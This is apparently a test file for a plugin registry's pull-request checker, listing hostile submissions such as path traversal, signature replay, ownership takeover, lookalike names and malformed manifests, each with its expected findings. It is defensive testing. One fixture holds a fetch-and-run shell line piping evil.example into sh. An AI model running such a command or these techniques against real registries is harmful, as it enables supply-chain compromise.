// What strangers send, each told as the pull request that it comes in, judged by the whole way from trees to report.
import { describe, test } from 'vitest';
import { mergedByHuman, waits } from '../submissions/exceptions.ts';
import { anAdvisory } from '../support/advisory-cases.ts';
import {
  admin,
  alice,
  aliceKey,
  carol,
  digestOf,
  encode,
  type FileMap,
  mallory,
  malloryKey,
  manifest,
  newPlugin,
  placed,
  plainWasm,
  policy,
  type ReleaseParts,
  record,
  release,
  toBytes,
} from '../support/case-registry.ts';
import { type ExpectedFinding, judgeCase, type SubmissionCase } from '../support/submission-case.ts';
import { coreModule, func, join, name as nameBytes, section, vec } from '../support/wasm-builder.ts';

type Attack = Omit<SubmissionCase, 'name'>;

const own = 'registry/plugins/slugify/1.1.0';
const released = 'registry/plugins/slugify/1.0.0';
const manifestFile = `${own}/plugin.json`;
const recordFile = 'registry/plugins/slugify/record.json';

const attack = (name: string, told: Attack | Promise<Attack>): void => {
  test(name, async () => {
    await judgeCase({ name, ...(await told) });
  });
};

const fails = (change: FileMap, ...findings: readonly ExpectedFinding[]): Attack => ({
  change,
  verdict: 'FAIL',
  findings,
});

/** The release 1.1.0 of slugify with another text as its manifest. */
async function withManifest(content: string | Uint8Array, finding: Omit<ExpectedFinding, 'check'>): Promise<Attack> {
  const change = await release({ files: { 'plugin.json': content } });
  return fails(change, { check: 'manifest/is-valid', ...finding });
}

const sound = JSON.stringify(manifest('slugify', '1.1.0'), undefined, 2);
const unplaced = (path: string): ExpectedFinding => ({
  check: 'change/only-registry-files',
  message: 'This file has no place in the registry tree',
  at: path,
});
const unsafe = (path: string, message: string): ExpectedFinding => ({
  check: 'change/paths-are-safe',
  message,
  at: path,
});
const outside = (path: string): ExpectedFinding => ({
  check: 'change/stays-in-registry',
  message: 'This file lies outside registry/',
  at: path,
});

describe('a manifest', () => {
  attack(
    'with a comma too many is told the line and the column',
    withManifest(`{\n  "plugyard": 1,\n  "name": "slugify",\n}\n`, {
      message: 'This is not JSON',
      at: `${manifestFile}:4:1`,
      fix: 'no trailing commas',
    }),
  );
  attack(
    'that ends in the middle',
    withManifest('{ "plugyard": 1, "na', { message: 'end of input', at: `${manifestFile}:1:21` }),
  );
  attack(
    'with a comment',
    withManifest('{\n  // mine\n  "plugyard": 1 }', { message: 'This is not JSON', at: `${manifestFile}:2:3` }),
  );
  attack('that is no text at all', withManifest('', { message: 'This is not JSON', at: `${manifestFile}:1:1` }));
  attack(
    'that is a list',
    withManifest('[]\n', { message: 'The file is an array, not object', at: `${manifestFile}:1:1`, pointer: '' }),
  );
  attack(
    'whose values are all of the wrong type is told all of them at once',
    (async () => {
      const wrong = {
        plugyard: '1',
        name: 5,
        version: 1.1,
        description: null,
        license: ['MIT'],
        abi: 'extism2',
        keywords: 'text',
        permissions: { network: 'api.example.com', clock: 'yes' },
      };
      const finding = (message: string, place: string, pointer: string): ExpectedFinding => ({
        check: 'manifest/is-valid',
        message,
        at: `${manifestFile}:${place}`,
        pointer,
      });
      return fails(
        await release({ files: { 'plugin.json': wrong } }),
        finding('"plugyard" is "1"; allowed is 1', '2:15', '/plugyard'),
        finding('"name" is a number, not string', '3:11', '/name'),
        finding('"version" is a number, not string', '4:14', '/version'),
        finding('"description" is null, not string', '5:18', '/description'),
        finding('"license" is an array, not string', '6:14', '/license'),
        finding('"abi" is "extism2"; allowed is "extism"', '9:10', '/abi'),
        finding('"keywords" is a string, not array', '10:15', '/keywords'),
        finding('"network" is a string, not array', '12:16', '/permissions/network'),
        finding('"clock" is a string, not boolean', '13:14', '/permissions/clock'),
      );
    })(),
  );
  attack(
    'with an unknown field is told the known one',
    withManifest(JSON.stringify({ ...JSON.parse(sound), permision: {} }), {
      message: '"permision" is not a field of this format',
      at: `${manifestFile}:1:142`,
      pointer: '/permision',
      fix: 'Write "permissions", or remove it.',
    }),
  );
  attack(
    'with the same key twice, read one way by one program and another way by the next',
    withManifest(sound.replace('"license"', '"name": "utf8-tools",\n  "license"'), {
      message: 'The key "name" stands twice in this object',
      at: `${manifestFile}:6:3`,
      pointer: '/name',
      fix: 'Keep one of them.',
    }),
  );
  attack(
    'that reaches for the prototype of objects',
    withManifest(sound.replace('"license"', '"__proto__": { "abi": "raw" },\n  "license"'), {
      message: '"__proto__" is not allowed as a key',
      at: `${manifestFile}:6:3`,
      pointer: '/__proto__',
    }),
  );
  attack(
    'of ten megabytes is not read',
    withManifest(' '.repeat(10 * 1024 * 1024), {
      message: 'The file has 10485760 bytes; at most 262144 are allowed',
      at: manifestFile,
      fix: 'Make it shorter.',
    }),
  );
  attack(
    'nested a hundred thousand deep overflows no stack',
    withManifest(`{ "x-deep": ${'['.repeat(100_000)} }`, {
      message: 'Values are nested more than 32 deep',
      at: `${manifestFile}:1:44`,
    }),
  );
  attack(
    'that is not UTF-8',
    withManifest(new Uint8Array([...encode('{\n  "description": "'), 0xe4, ...encode('"\n}\n')]), {
      message: 'The file is not valid UTF-8',
      at: `${manifestFile}:2`,
      fix: 'Save it as UTF-8.',
    }),
  );
  attack(
    'with a byte order mark',
    withManifest(`\ufeff${sound}`, {
      message: 'The file starts with a byte order mark',
      at: `${manifestFile}:1:1`,
      fix: 'without BOM',
    }),
  );
  attack(
    'with Windows line ends',
    withManifest(sound.replaceAll('\n', '\r\n'), {
      message: 'The line ends with CR LF',
      at: `${manifestFile}:1:2`,
      fix: 'LF line ends',
    }),
  );
  attack(
    'in the name of another plugin',
    (async () =>
      fails(await release({ manifest: { name: 'utf8-tools' } }), {
        check: 'manifest/matches-its-directory',
        message: 'The manifest says utf8-tools, the directory slugify',
        at: `${manifestFile}:3:11`,
        pointer: '/name',
      }))(),
  );
});

describe('the name', () => {
  const names: readonly (readonly [name: string, fix: string])[] = [
    ['Slugify', 'Write "slugify".'],
    ['slug--ify', 'Write "slug-ify".'],
    ['-slugify', 'Write "slugify".'],
    ['slug.ify', 'Write "slug-ify".'],
    ['slug_ify', 'Write "slug-ify".'],
    ['sl\u00fcgify', 'Write "slugify".'],
    ['\u0455lugify', 'Write "lugify".'],
    ['s', 'Choose a name such as json-format'],
    ['s'.repeat(51), `Write "${'s'.repeat(50)}".`],
  ];
  for (const [name, fix] of names) {
    const plain = /^[\w.-]+$/.test(name);
    const path = `registry/plugins/${name}/1.0.0/plugin.json`;
    attack(
      `${name} of a directory`,
      fails(
        { [path]: manifest('slugify', '1.0.0') },
        {
          check: 'change/only-registry-files',
          message: `"${name}" is not a plugin name`,
          at: path,
          fix: `Rename the directory. ${fix}`,
        },
        ...(plain ? [] : [unsafe(path, 'holds characters other than letters, digits')]),
        mergedByHuman('other'),
      ),
    );
    attack(
      `${name} in a manifest`,
      (async () =>
        fails(await release({ manifest: { name } }), {
          check: 'manifest/is-valid',
          message: `"${name}" is not a plugin name`,
          at: `${manifestFile}:3:11`,
          pointer: '/name',
          fix,
        }))(),
    );
  }
});

describe('the version', () => {
  const versions: readonly (readonly [version: string, fix: string])[] = [
    ['v1.0', 'Write "1.0.0".'],
    ['1.0', 'Write "1.0.0".'],
    ['1.0.0+b', 'Write "1.0.0".'],
    ['1.0.0-RC', 'Write "1.0.0-rc".'],
    ['01.2.3', 'Write "1.2.3".'],
    ['1.2.3-01', 'Write "1.2.3-1".'],
    ['1.2.3.4', 'Write "1.2.3".'],
    ['latest', 'Write a version such as 1.2.3.'],
  ];
  for (const [version, fix] of versions) {
    const path = `registry/plugins/slugify/${version}/plugin.json`;
    attack(
      `${version} of a directory`,
      fails(
        { [path]: manifest('slugify', '1.0.0') },
        ...(version.includes('+') ? [unsafe(path, '"1.0.0+b" holds characters other than letters, digits')] : []),
        { check: 'version/is-valid', message: `"${version}" is not a version`, at: path, fix },
        mergedByHuman('other'),
      ),
    );
    attack(
      `${version} in a manifest`,
      (async () =>
        fails(await release({ manifest: { version } }), {
          check: 'manifest/is-valid',
          message: `"${version}" is not a version`,
          at: `${manifestFile}:4:14`,
          pointer: '/version',
          fix,
        }))(),
    );
  }
});

describe('a path', () => {
  const paths: readonly (readonly [path: string, message: string])[] = [
    [`${own}/../../utf8-tools/record.json`, 'it holds the segment ".."'],
    ['registry/../.github/workflows/review.yml', 'it holds the segment ".."'],
    ['registry/plugins//slugify/record.json', 'it holds the segment ""'],
    [`${own}\\plugin.json`, 'it holds a backslash'],
    [`${own}/README.md\u001b[2J`, 'holds characters other than letters, digits'],
    [`${own}/README\n.md`, 'holds characters other than letters, digits'],
    [`${own}/README\u202edm.`, 'holds characters other than letters, digits'],
    [`${own}/.git/config`, 'it points into a git directory'],
    [`${own}/aux.md`, '"aux.md" cannot be a file name on Windows'],
    [`${own}/${'a'.repeat(400)}`, 'it is longer than 400 characters'],
  ];
  for (const [path, message] of paths) {
    const named = path.startsWith('registry/plugins//');
    const placeless = named
      ? { check: 'change/only-registry-files', message: '"" is not a plugin name', at: path }
      : unplaced(path);
    attack(
      `such as ${JSON.stringify(path.slice(0, 80))} is refused`,
      fails({ [path]: 'x\n' }, placeless, unsafe(path, message), mergedByHuman('other')),
    );
  }
  attack(
    'with backslashes that is inside registry/ on Windows only',
    fails(
      { 'registry\\plugins\\slugify\\record.json': 'x\n' },
      outside('registry\\plugins\\slugify\\record.json'),
      unsafe('registry\\plugins\\slugify\\record.json', 'it holds a backslash'),
      mergedByHuman('other'),
    ),
  );
  attack(
    'that is inside registry/ where case does not count',
    fails(
      { 'Registry/plugins/slugify/record.json': 'x\n' },
      outside('Registry/plugins/slugify/record.json'),
      unsafe('Registry/plugins/slugify/record.json', 'The path differs from registry/ by case only'),
      mergedByHuman('other'),
    ),
  );
  attack('outside registry/ may be called as its author likes', {
    change: { 'docs/a guide [draft].md': 'x\n' },
    verdict: 'HOLD',
    findings: [outside('docs/a guide [draft].md'), mergedByHuman('other')],
  });
  attack(
    'of a plugin that is called like a device',
    (async () => {
      const change = await newPlugin({ name: 'con' });
      const directory = 'registry/plugins/con';
      return fails(
        change,
        ...[
          '1.0.0/README.md',
          '1.0.0/plugin.json',
          '1.0.0/plugin.wasm',
          '1.0.0/plugin.wasm.sigstore.json',
          'record.json',
        ].map((file) => unsafe(`${directory}/${file}`, '"con" cannot be a file name on Windows')),
        waits('con'),
      );
    })(),
  );
  attack(
    'that differs from another by case only',
    (async () =>
      fails(
        await release({ files: { 'readme.md': 'Another one.\n' } }),
        { ...unplaced(`${own}/readme.md`), fix: 'README.md' },
        unsafe(`${own}/readme.md`, `The path differs from ${own}/README.md by case only`),
      ))(),
  );
  attack('of three hundred JSON files in one change is not read any more', {
    ...fails(
      Object.fromEntries(
        Array.from({ length: 300 }, (_, index) => [
          `registry/advisories/PLUG-${1000 + index}.json`,
          anAdvisory({ id: `PLUG-${1000 + index}` }),
        ]),
      ),
      ...Array.from(
        { length: 50 },
        (_, index): ExpectedFinding => ({
          check: 'change/files-are-valid',
          message: 'The change has more than 200 JSON files; this one was not read',
          at: `registry/advisories/PLUG-${1200 + index}.json`,
          fix: 'Split the pull request.',
        }),
      ),
      { check: 'change/files-are-valid', message: 'There are more of this kind' },
      mergedByHuman('advisory'),
    ),
    author: admin,
  });
  attack(
    'ten thousand times over does not fill the report',
    (() => {
      const names = Array.from({ length: 10_000 }, (_, index) => `registry/junk/${String(index).padStart(5, '0')}`);
      return fails(
        Object.fromEntries(names.map((path) => [path, 'x\n'])),
        ...names.slice(0, 50).map(unplaced),
        {
          check: 'change/only-registry-files',
          message: 'There are more of this kind',
          fix: 'Mend those above first.',
        },
        mergedByHuman('other'),
      );
    })(),
  );
});

describe('instead of a plain file', () => {
  const modes: readonly (readonly [file: string, mode: string, message: string])[] = [
    ['README.md', '120000', 'This is a symbolic link'],
    ['plugin.json', '120000', 'This is a symbolic link'],
    ['plugin.wasm', '120000', 'This is a symbolic link'],
    ['plugin.wasm', '100755', 'This is an executable file'],
    ['plugin.wasm', '160000', 'This is a submodule'],
  ];
  for (const [file, mode, message] of modes) {
    attack(
      `${file} of mode ${mode}`,
      (async () => ({
        ...fails(await release(), { check: 'change/modes-are-plain', message, at: `${own}/${file}` }),
        modes: { [`${own}/${file}`]: mode },
      }))(),
    );
  }
  attack(
    'a bundle that is a link counts as none',
    (async () => ({
      ...fails(
        await release(),
        {
          check: 'change/modes-are-plain',
          message: 'This is a symbolic link',
          at: `${own}/plugin.wasm.sigstore.json`,
        },
        { check: 'provenance/is-signed', message: 'The release has no signature bundle' },
        { check: 'provenance/rank-is-kept', message: 'this one by nobody' },
      ),
      modes: { [`${own}/plugin.wasm.sigstore.json`]: '120000' },
    }))(),
  );
  attack('a whole plugin that is a submodule', {
    ...fails(
      { 'registry/plugins/evil': 'f'.repeat(40) },
      unplaced('registry/plugins/evil'),
      { check: 'change/modes-are-plain', message: 'This is a submodule', at: 'registry/plugins/evil' },
      mergedByHuman('other'),
    ),
    modes: { 'registry/plugins/evil': '160000' },
  });
  attack('an owner who makes his record executable', {
    ...fails(
      { [recordFile]: record([alice], [aliceKey.publisher]) },
      { check: 'change/modes-are-plain', message: 'This is an executable file', at: recordFile },
      mergedByHuman('record'),
    ),
    modes: { [recordFile]: '100755' },
  });
});

describe('under the name plugin.wasm', () => {
  const files: readonly (readonly [what: string, bytes: Uint8Array, message: string, offset: string])[] = [
    ['an empty file', new Uint8Array(), 'The file is empty', '0x0'],
    ['a module cut off in its preamble', plainWasm.subarray(0, 6), 'cut off after 6 of the 8 bytes', '0x6'],
    ['a module cut off in a section', plainWasm.subarray(0, 20), 'only 0 are left in the file', '0x14'],
    ['a gzip file', new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), 'This is a gzip file, not WebAssembly', '0x0'],
    ['an ELF program', encode('\x7fELF\x02\x01\x01\0'), 'This is an ELF program or library, not WebAssembly', '0x0'],
    ['a page', encode('<!DOCTYPE html><html></html>'), 'This is an HTML or XML page, not WebAssembly', '0x0'],
    ['a pointer of Git LFS', encode('version https://git-lfs.github.com/spec/v1\n'), 'a Git LFS pointer', '0x0'],
    ['a script', encode('#!/bin/sh\ncurl evil.example | sh\n'), 'This is JavaScript or other source text', '0x0'],
  ];
  for (const [what, wasm, message, offset] of files) {
    attack(
      what,
      (async () =>
        fails(await release({ wasm }), {
          check: 'artifact/is-wasm',
          message,
          at: `${own}/plugin.wasm at byte ${offset}`,
        }))(),
    );
  }
  attack(
    'a module whose import has a name of ninety thousand characters does not fill the report',
    (async () => {
      const wasm = coreModule(
        section(1, vec(func())),
        section(2, vec(join(nameBytes('env'), nameBytes('x'.repeat(90_000)), 0x00, 0x00))),
        section(3, vec(0)),
        section(7, vec(join(nameBytes('run'), 0x00, 1))),
        section(10, vec([4, 0, 0x10, 0, 0x0b])),
      );
      return {
        base: {
          'registry/policy.json': {
            ...policy,
            limits: { ...policy.limits, inTreeSize: 100_000, artifactSize: 100_000 },
          },
        },
        ...fails(
          await release({ wasm }),
          {
            check: 'artifact/imports-are-permitted',
            message: `which needs the permission host function env.${'x'.repeat(75)}\u2026`,
            at: `${own}/plugin.wasm at byte 0x13`,
          },
          {
            check: 'artifact/gains-no-capability',
            message: `+ host function env.${'x'.repeat(75)}\u2026 by env ${'x'.repeat(75)}\u2026`,
            at: `${own}/plugin.wasm`,
          },
        ),
      };
    })(),
  );
});

describe('an address', () => {
  const url = 'https://example.com/slugify-1.1.0.wasm';
  const page = encode('<!DOCTYPE html><title>Sign in</title>');
  const place = { at: `${manifestFile}:9:12`, pointer: '/artifact/url' };
  const remote = async (bytes: Uint8Array): Promise<FileMap> =>
    await release({
      wasm: null,
      manifest: { artifact: { url, sha256: digestOf(bytes), size: bytes.length } },
      signed: { wasm: bytes },
    });
  const refusals: readonly (readonly [what: string, refuses: string, hint: string])[] = [
    ['that answers 404', 'answers 404', 'Check that the file is published, and that no login is needed.'],
    ['that sends more than it said', 'sends more than 37 bytes', 'Correct "artifact.size" in plugin.json'],
    [
      'that redirects into a private network',
      'cannot be fetched: intranet.example leads to 10.0.0.1, which is not public',
      'Check the address, and try again.',
    ],
    ['that never ends', 'does not finish in time', 'Check the address, and try again.'],
  ];
  for (const [what, refuses, hint] of refusals) {
    attack(
      what,
      (async () => ({
        ...fails(await remote(plainWasm), {
          check: 'artifact/is-present',
          message: `${url} ${refuses}`,
          ...place,
          fix: hint,
        }),
        answers: { [url]: { refuses, hint } },
      }))(),
    );
  }
  attack(
    'that answers with a page and the status 200',
    (async () => ({
      ...fails(await remote(page), {
        check: 'artifact/is-wasm',
        message: 'This is an HTML or XML page, not WebAssembly',
        ...place,
      }),
      answers: { [url]: page },
    }))(),
  );
  attack(
    'that answers with other bytes than those that were signed',
    (async () => ({
      ...fails(
        await remote(plainWasm),
        {
          check: 'artifact/digest-matches',
          message: `The manifest names digest ${digestOf(plainWasm)}`,
          at: `${manifestFile}:10:15`,
          pointer: '/artifact/sha256',
        },
        {
          check: 'artifact/size-matches',
          message: `The manifest names size ${plainWasm.length}, the artifact has 10`,
          at: `${manifestFile}:11:13`,
          pointer: '/artifact/size',
        },
        { check: 'artifact/is-wasm', message: 'only 0 are left in the file', ...place },
        {
          check: 'provenance/artifact-is-bound',
          message: 'not the artifact',
          at: `${own}/plugin.wasm.sigstore.json`,
        },
      ),
      answers: { [url]: plainWasm.subarray(0, 10) },
    }))(),
  );
});

describe('someone who would be trusted', () => {
  const bundle = `${own}/plugin.wasm.sigstore.json`;
  const update = async (parts: ReleaseParts = {}): Promise<FileMap> => await release(parts);
  const falls = { check: 'provenance/rank-is-kept', message: 'signed by a recorded key, this one by nobody' };

  attack(
    "wraps a publisher's genuine artifact and bundle in a manifest of his own",
    (async () => ({
      ...fails(await update({ manifest: { links: { homepage: 'https://evil.example/' } } }), {
        check: 'ownership/release-is-authorised',
        message: 'mallory (6666) is not an owner of slugify (owners: alice (1001))',
      }),
      author: mallory,
    }))(),
  );
  attack(
    'puts a file of his own beside a statement of the publisher over all others',
    (async () => ({
      ...fails(
        { ...(await update({ sign: 'release' })), [`${own}/CHANGELOG.md`]: '# Trust me\n' },
        {
          check: 'ownership/release-is-authorised',
          message: 'no release statement covers the release',
        },
      ),
      author: mallory,
    }))(),
  );
  attack(
    'replays the artifact and the bundle of 1.0.0 as 1.1.0',
    (async () =>
      fails(await update({ signed: { version: '1.0.0' } }), {
        check: 'provenance/version-is-bound',
        message: 'The signature is made for slugify 1.0.0, not for slugify 1.1.0',
        at: bundle,
      }))(),
  );
  attack(
    'replays them under the name of a plugin of his own, naming its publisher',
    (async () => ({
      ...fails(
        await newPlugin({
          name: 'slugify-pro',
          record: record([mallory], [aliceKey.publisher]),
          signed: { name: 'slugify', version: '1.0.0' },
        }),
        {
          check: 'provenance/version-is-bound',
          message: 'made for slugify 1.0.0, not for slugify-pro 1.0.0',
          at: 'registry/plugins/slugify-pro/1.0.0/plugin.wasm.sigstore.json',
        },
        waits('slugify-pro'),
      ),
      author: mallory,
    }))(),
  );
  attack(
    'puts the bundle of another artifact beside his own',
    (async () =>
      fails(await update({ wasm: toBytes(plainWasm), signed: { wasm: encode('another') } }), {
        check: 'provenance/artifact-is-bound',
        message: 'The signature covers the SHA-256',
        at: bundle,
      }))(),
  );
  attack(
    'signs with a key that nobody has recorded',
    (async () =>
      fails(
        await update({ key: malloryKey }),
        {
          check: 'provenance/signer-is-recorded',
          message: `no recorded publisher has the key ${digestOfKey()}`,
          at: bundle,
          fix: 'change the record first, in a pull request of its own',
        },
        falls,
      ))(),
  );
  attack(
    'leaves out the signature that the releases before had',
    (async () =>
      fails(
        await update({ sign: 'nothing' }),
        { check: 'provenance/is-signed', message: 'no signature bundle' },
        falls,
      ))(),
  );
  attack(
    'fills a bundle with two megabytes',
    (async () =>
      fails(
        { ...(await update()), [bundle]: ' '.repeat(2 * 1024 * 1024) },
        {
          check: 'provenance/signature-is-valid',
          message: 'the file cannot be read, or has more than 1048576 bytes (BUNDLE_MALFORMED)',
          at: bundle,
        },
        falls,
      ))(),
  );
  attack(
    'proposes a publisher in the pull request of a release',
    (async () =>
      fails(
        {
          ...(await update({ key: malloryKey })),
          [recordFile]: record([alice], [aliceKey.publisher, malloryKey.publisher]),
        },
        { check: 'change/has-one-kind', message: 'The change mixes a release, a record' },
      ))(),
  );
  attack(
    'hides a change of owners in a release',
    (async () =>
      fails(
        { ...(await update()), [recordFile]: record([alice, mallory], [aliceKey.publisher]) },
        { check: 'change/has-one-kind', message: 'The change mixes a release, a record' },
      ))(),
  );
  attack(
    'takes over a plugin that came to the base branch after his branch had left it',
    (async () => ({
      meanwhile: await newPlugin(),
      ...fails(
        await newPlugin({
          version: '1.0.1',
          record: record([mallory], [malloryKey.publisher]),
          key: malloryKey,
        }),
        {
          check: 'ownership/first-owner-is-submitter',
          message: 'word-count is on the base branch already; this record would take it over',
          at: 'registry/plugins/word-count/record.json',
        },
        {
          check: 'provenance/signer-is-recorded',
          message: 'Not signed by a recorded publisher: no recorded publisher has the key',
          at: 'registry/plugins/word-count/1.0.1/plugin.wasm.sigstore.json',
        },
        waits(),
      ),
      author: mallory,
    }))(),
  );
  attack('deletes the record of a plugin, to bring a new one later', {
    ...fails(
      { [recordFile]: null },
      { check: 'ownership/record-is-present', message: 'The record of slugify is deleted', at: recordFile },
      { check: 'ownership/owner-changes-plugin', message: 'mallory (6666) is not an owner of slugify' },
      mergedByHuman('record'),
    ),
    author: mallory,
  });
  attack('makes himself an administrator', {
    ...fails(
      {
        'registry/registry.json': {
          format: 1,
          name: 'Example',
          url: 'https://registry.example.com/',
          administrators: [admin, mallory],
          reviewers: [],
          sequenceBase: 0,
        },
      },
      { check: 'ownership/administrator-decides', message: 'mallory (6666) is not an administrator; registry.json' },
      mergedByHuman('other'),
    ),
    author: mallory,
  });
  attack('claims a name by rating it before it is there', {
    ...fails(
      { 'registry/plugins/next-hit/ratings/6666.json': { format: 1, stars: 5, version: '1.0.0' } },
      { check: 'ownership/rating-is-own', message: 'There is no plugin next-hit' },
    ),
    author: mallory,
  });

  function digestOfKey(): string {
    const { publisher } = malloryKey;
    return publisher.kind === 'key' ? publisher.sha256 : '';
  }
});

describe('what is released', () => {
  const frozen = (file: string, status: string): ExpectedFinding => ({
    check: 'change/released-is-frozen',
    message: `A file of a release is ${status}`,
    at: file,
  });
  attack(
    'cannot be edited',
    fails(
      { [`${released}/plugin.json`]: '{}\n' },
      frozen(`${released}/plugin.json`, 'modified'),
      {
        check: 'manifest/is-valid',
        message: 'The file lacks "plugyard"',
        at: `${released}/plugin.json:1:1`,
        pointer: '',
      },
      ...['name', 'version', 'description', 'license', 'abi'].map(
        (field): ExpectedFinding => ({
          check: 'manifest/is-valid',
          message: `The file lacks "${field}"`,
          at: `${released}/plugin.json:1:1`,
          pointer: '',
        }),
      ),
    ),
  );
  attack('cannot be deleted', fails({ [`${released}/README.md`]: null }, frozen(`${released}/README.md`, 'deleted')));
  attack(
    'cannot be renamed inside its directory',
    fails(
      { [`${released}/README.md`]: null, [`${released}/CHANGELOG.md`]: '# slugify\n' },
      frozen(`${released}/README.md`, 'deleted'),
      {
        check: 'manifest/is-valid',
        message: 'The change brings no plugin.json for this release',
        at: `${released}/plugin.json`,
      },
      {
        check: 'version/is-new',
        message: 'slugify 1.0.0 is released already',
        at: `${released}/plugin.json`,
        pointer: '/version',
      },
      { check: 'provenance/is-signed', message: 'no signature bundle' },
      { check: 'provenance/rank-is-kept', message: 'this one by nobody' },
    ),
  );
  attack(
    'cannot be renamed to another version',
    (async () => {
      const before = await release({ version: '1.0.0' });
      return fails(
        {
          ...(await release()),
          ...Object.fromEntries(Object.keys(before).map((path) => [path, null])),
        },
        { check: 'change/touches-one-release', message: `The change touches 2 releases: ${released}, ${own}` },
        ...Object.keys(before)
          .sort()
          .map((path) => frozen(path, 'deleted')),
      );
    })(),
  );
  attack(
    'gets no further file',
    fails(
      { [`${released}/CHANGELOG.md`]: '# 1.0.0\n' },
      {
        check: 'manifest/is-valid',
        message: 'The change brings no plugin.json for this release',
        at: `${released}/plugin.json`,
      },
      {
        check: 'version/is-new',
        message: 'slugify 1.0.0 is released already',
        at: `${released}/plugin.json`,
        pointer: '/version',
      },
      { check: 'provenance/is-signed', message: 'no signature bundle' },
      { check: 'provenance/rank-is-kept', message: 'this one by nobody' },
    ),
  );
  attack(
    'is not used again once it was removed',
    (async () => ({
      base: { 'registry/plugins/slugify/removed/1.1.0.json': { format: 1, reason: 'It was malware.' } },
      ...fails(await release(), {
        check: 'version/is-new',
        message: 'slugify 1.1.0 was removed and stays taken',
        at: `${manifestFile}:4:14`,
        pointer: '/version',
      }),
    }))(),
  );
  attack('does not get its artifact back once it was removed', {
    base: {
      'registry/plugins/slugify/removed/1.0.0.json': { format: 1, reason: 'It was malware.' },
      [`${released}/plugin.wasm`]: null,
    },
    ...fails(
      { [`${released}/plugin.wasm`]: plainWasm },
      {
        check: 'manifest/is-valid',
        message: 'The change brings no plugin.json for this release',
        at: `${released}/plugin.json`,
      },
      {
        check: 'version/is-new',
        message: 'slugify 1.0.0 was removed and stays taken',
        at: `${released}/plugin.json`,
        pointer: '/version',
      },
      { check: 'provenance/is-signed', message: 'no signature bundle' },
      { check: 'provenance/rank-is-kept', message: 'this one by nobody' },
    ),
  });
  attack(
    'is removed with nothing else than its artifact',
    (() => ({
      ...fails(
        {
          'registry/plugins/slugify/removed/1.0.0.json': { format: 1, reason: 'It was malware.' },
          [`${released}/plugin.json`]: null,
        },
        { check: 'change/has-one-kind', message: 'The change mixes a release, a removal' },
        frozen(`${released}/plugin.json`, 'deleted'),
      ),
      author: admin,
    }))(),
  );
});

describe('a name that looks like another', () => {
  const twins: readonly (readonly [what: string, existing: string, lookalike: string])[] = [
    ['by its separators', 'color-tools', 'colortools'],
    ['by 0 and o', 'color-tools', 'c0lor-tools'],
    ['by 1 and l', 'list-all', '1ist-all'],
    ['by 1 and i', 'image-it', '1mage-it'],
    ['by l and i', 'image-it', 'lmage-it'],
    ['by 5 and s', 'sort-lines', '5ort-lines'],
    ['by rn and m', 'modern-css', 'modem-css'],
    ['by vv and w', 'word-list', 'vvord-list'],
    ['by cl and d', 'cloud-sync', 'doud-sync'],
    ['without its organisation', '@acme/json-format', 'acme-json-format'],
  ];
  for (const [what, existing, lookalike] of twins) {
    attack(
      `${what}: ${lookalike} for ${existing}`,
      (async () => ({
        base: placed('registry/plugins', { [`${existing}/record.json`]: record([carol], [aliceKey.publisher]) }),
        change: await newPlugin({
          name: lookalike,
          record: record([mallory], [malloryKey.publisher]),
          key: malloryKey,
        }),
        author: mallory,
        verdict: 'HOLD',
        findings: [
          {
            check: 'manifest/name-is-not-lookalike',
            message: `${lookalike} looks like the existing plugin ${existing}`,
            at: `registry/plugins/${lookalike}/1.0.0/plugin.json:3:11`,
            pointer: '/name',
          },
          waits(lookalike),
        ],
      }))(),
    );
  }
});

describe('a dependency', () => {
  const depends = async (dependencies: object, ...findings: readonly ExpectedFinding[]): Promise<Attack> => ({
    base: await release({ version: '1.0.0', manifest: { dependencies } }),
    ...fails(await release({ manifest: { dependencies } }), ...findings),
  });
  attack(
    'that anyone could claim',
    depends(
      { 'internal-billing': '^1.0.0' },
      {
        check: 'dependencies/exist',
        message: 'There is no plugin internal-billing',
        at: `${manifestFile}:9:25`,
        pointer: '/dependencies/internal-billing',
      },
    ),
  );
  attack(
    'on itself',
    depends(
      { slugify: '^1.0.0' },
      {
        check: 'dependencies/have-no-cycle',
        message: 'The dependencies go round: slugify -> slugify',
        at: `${manifestFile}:9:16`,
        pointer: '/dependencies/slugify',
      },
    ),
  );
  attack(
    'that closes a cycle through the new version',
    (async () => {
      const path = 'registry/plugins/utf8-tools/1.2.0/plugin.json';
      const place = { at: `${path}:9:17`, pointer: '/dependencies/text-kit' };
      return {
        base: await newPlugin({
          name: 'text-kit',
          manifest: { dependencies: { '@acme/json-format': '^1.0.0' } },
        }),
        ...fails(
          await release({ name: 'utf8-tools', version: '1.2.0', manifest: { dependencies: { 'text-kit': '^1.0.0' } } }),
          {
            check: 'dependencies/have-no-cycle',
            message: 'go round: utf8-tools -> text-kit -> @acme/json-format -> utf8-tools',
            ...place,
          },
          { check: 'review/adds-no-dependency', message: 'New since 1.1.0: text-kit', ...place },
        ),
      };
    })(),
  );
  attack(
    'called like a part of every object is a name like any other',
    depends(
      { constructor: '^1.0.0' },
      {
        check: 'dependencies/exist',
        message: 'There is no plugin constructor',
        at: `${manifestFile}:9:20`,
        pointer: '/dependencies/constructor',
      },
    ),
  );
});

describe('one pull request', () => {
  attack(
    'with releases of two plugins',
    (async () =>
      fails(
        { ...(await release()), ...(await release({ name: 'notes' })) },
        { check: 'change/touches-one-release', message: 'The change touches 2 plugins: notes, slugify' },
      ))(),
  );
  attack(
    'with two new plugins',
    (async () =>
      fails(
        { ...(await newPlugin({ name: 'official' })), ...(await newPlugin({ name: 'slug-ify' })) },
        { check: 'change/touches-one-release', message: 'The change touches 2 plugins: official, slug-ify' },
        waits('More than one plugin'),
      ))(),
  );
  attack(
    'with two releases of a new plugin',
    (async () =>
      fails(
        { ...(await newPlugin()), ...(await release({ name: 'word-count', version: '1.0.1' })) },
        { check: 'change/touches-one-release', message: 'The change touches 2 releases' },
        waits(),
      ))(),
  );
  attack(
    'with a workflow beside a release',
    (async () =>
      fails(
        { ...(await release()), '.github/workflows/review.yml': 'name: review\npermissions: write-all\n' },
        { check: 'change/has-one-kind', message: 'The change mixes files outside registry/, a release' },
        outside('.github/workflows/review.yml'),
      ))(),
  );
  attack(
    'with ratings of two accounts',
    (async () => ({
      ...fails(
        placed('registry/plugins/slugify/ratings', {
          '6666.json': { format: 1, stars: 5, version: '1.0.0' },
          '6667.json': { format: 1, stars: 5, version: '1.0.0' },
        }),
        {
          check: 'ownership/rating-is-own',
          message: 'The rating is that of account 6667; the submitter is mallory (6666)',
          at: 'registry/plugins/slugify/ratings/6667.json',
        },
      ),
      author: mallory,
    }))(),
  );
